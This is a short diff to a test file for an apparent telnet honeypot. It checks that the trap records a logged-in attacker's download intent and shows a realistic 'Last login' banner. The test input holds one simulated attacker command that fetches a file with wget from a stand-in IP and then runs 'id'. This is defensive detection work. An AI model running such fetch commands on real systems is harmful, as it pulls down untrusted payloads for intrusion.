@@ -189,7 +189,10 @@ def test_telnet_records_download_intents_with_the_command() -> None:
     t = talk(dialogue, b"root\r\n", b"root\r\n", b"wget http://203.0.113.5/b; id\r\n")
     (command,) = t.found("trap.command")
     assert command["download_intent"] == ["http://203.0.113.5/b"]
-    assert b"Last login: " in t.output and b"uid=0(root)" in t.output
+    assert re.search(
+        rb"Last login: \w{3} \w{3} [ \d]\d [\d:]{8} UTC \d{4} from [\d.]+ on pts/0", t.output
+    )
+    assert b"uid=0(root)" in t.output
 
 
 def test_lists_and_pipes_behave_as_bash() -> None:
